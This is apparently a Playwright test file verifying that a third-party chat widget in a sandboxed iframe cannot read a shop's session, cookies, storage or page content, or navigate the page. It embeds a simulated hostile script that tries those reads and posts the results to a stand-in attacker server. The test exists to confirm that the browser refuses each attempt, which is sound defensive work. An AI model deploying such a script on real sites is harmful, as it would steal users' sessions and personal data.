import type { Browser, Page } from '@playwright/test'
import { createServer, type Server } from 'node:http'
import { callAs } from '../paying.ts'
import { expect, newCustomer, rendered, signedIn, test } from '../shop.ts'

/** A third party's chat widget in its frame, even a hostile one, cannot read the session or navigate the page. */

/** A script that tries everything that is forbidden, and reports the results to its own server. */
const hostile = (own: string) => `
  const found = {}
  const attempt = (name, act) => { try { found[name] = String(act()) } catch (error) { found[name] = 'refused ' + error.name } }
  attempt('own storage', () => localStorage.getItem('marker'))
  attempt('storage of the page', () => JSON.stringify(parent.localStorage))
  attempt('cookies of the page', () => parent.document.cookie)
  attempt('document of the page', () => parent.document.body.innerHTML)
  attempt('navigation of the page', () => { top.location.href = '${own}/away'; return 'asked' })
  const api = fetch(new URL('/api/profile', document.referrer || location.ancestorOrigins[0]).href, { credentials: 'include' })
    .then(async (answer) => 'answered ' + answer.status, () => 'refused')
  const elsewhere = fetch('${own.replace('127.0.0.1', 'localhost')}/elsewhere').then(() => 'reached', () => 'refused')
  Promise.all([api, elsewhere]).then(([api, elsewhere]) =>
    fetch('${own}/report', { method: 'POST', body: JSON.stringify({ ...found, api, elsewhere }) }))
`

interface Hostile {
  address: string
  reports: Record<string, string>[]
  close(): Promise<void>
}

/** A third party's server with a widget script and a hosted widget page. */
async function openHostile(): Promise<Hostile> {
  const reports: Record<string, string>[] = []
  const server: Server = createServer((request, response) => {
    const own = `http://${request.headers.host!.replace('localhost', '127.0.0.1')}`
    response.setHeader('access-control-allow-origin', '*')
    if (request.url === '/report') {
      let body = ''
      request.on('data', (chunk) => (body += String(chunk)))
      request.on('end', () => {
        reports.push(JSON.parse(body) as Record<string, string>)
        response.end()
      })
    } else if (request.url === '/w.js') {
      response
        .setHeader('content-type', 'text/javascript')
        .end(`document.body.append('The widget runs');${hostile(own)}`)
    } else if (request.url?.startsWith('/widget'))
      response
        .setHeader('content-type', 'text/html')
        .end(`<!doctype html><title>Chat</title><body>The widget runs<script>${hostile(own)}</script>`)
    else response.setHeader('content-type', 'text/html').end('<title>Away</title>')
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const { port } = server.address() as { port: number }
  return {
    address: `http://127.0.0.1:${port}`,
    reports,
    close: () => new Promise((done) => server.close(() => done())),
  }
}

/** A page whose console is not checked: the browser logs there what it refuses to the hostile script. */
async function visit(browser: Browser, address: string) {
  const context = await browser.newContext({ baseURL: address, locale: 'en-GB' })
  return context.newPage()
}

/** Chooses a widget as the settings screen does, and waits until the pages allow its frame. */
async function choose(admin: Page, address: string, widget: object, allowed: string) {
  await callAs(admin, 'PATCH', '/api/admin/settings', { values: { 'chat.widget': widget } })
  await expect
    .poll(async () => {
      const { headers } = await fetch(`${address}/dashboard/livechat`)
      return /frame-src ([^;]+)/.exec(headers.get('content-security-policy') ?? '')?.[1]
    }, rendered)
    .toBe(allowed)
}

test('a widget reaches nothing outside of its frame, as a script or as a hosted page', async ({
  shop,
  browser,
}) => {
  const elsewhere = await openHostile()
  const admin = await visit(browser, shop.address)
  await signedIn(admin, shop.admin)
  const page = await visit(browser, shop.address)
  await newCustomer(page, { name: 'Saida Omari', email: 'widget@example.com' })

  const widgets = [
    [{ provider: 'script', address: `${elsewhere.address}/w.js` }, "'self'"],
    [{ provider: 'chatwoot', address: elsewhere.address, websiteToken: 'T1' }, `'self' ${elsewhere.address}`],
  ] as const
  for (const [widget, allowed] of widgets) {
    await choose(admin, shop.address, widget, allowed)
    await page.goto('/dashboard/livechat?about=Website Design - Landing Page')
    await expect(page.frameLocator('iframe').getByText('The widget runs')).toBeVisible()
    await expect(page.getByText('About: Website Design - Landing Page')).toBeVisible()
    await expect.poll(() => elsewhere.reports.length).toBe(1)
    const [report] = elsewhere.reports.splice(0)
    expect(report).toMatchObject({
      'storage of the page': 'refused SecurityError',
      'cookies of the page': 'refused SecurityError',
      'document of the page': 'refused SecurityError',
      api: 'refused',
    })
    // A script has no storage and can call only its own server. A hosted page has the storage of its own origin.
    if (widget.provider === 'script')
      expect(report).toMatchObject({ 'own storage': 'refused SecurityError', elsewhere: 'refused' })
    else expect(report).toMatchObject({ 'own storage': 'null' })
    // The attempt to navigate the page failed: its address and its session are unchanged.
    await expect(page).toHaveURL(/\/dashboard\/livechat/)
    await expect(page.getByText('Hello, Saida Omari')).toBeVisible()
    if (widget.provider === 'chatwoot') continue
    // The document around a script has an opaque origin also when opened directly. Only our pages may frame it.
    const { headers } = await fetch(`${shop.address}/chat-frame`)
    const policy = headers.get('content-security-policy')
    expect(policy).toMatch(/^sandbox allow-scripts allow-forms allow-popups;/)
    expect(policy).toContain("frame-ancestors 'self'")
    expect(policy).toContain(`script-src ${elsewhere.address};`)
  }

  // Without a widget the pages show the product's own chat again, and no frame of others.
  await choose(admin, shop.address, { provider: 'none' }, "'self'")
  expect((await fetch(`${shop.address}/chat-frame`)).status).toBe(404)
  await page.goto('/dashboard/livechat')
  await expect(page.getByText('How can we help you?')).toBeVisible()
  await expect(page.locator('iframe')).toHaveCount(0)
  await page.context().close()
  await admin.context().close()
  await elsewhere.close()
})
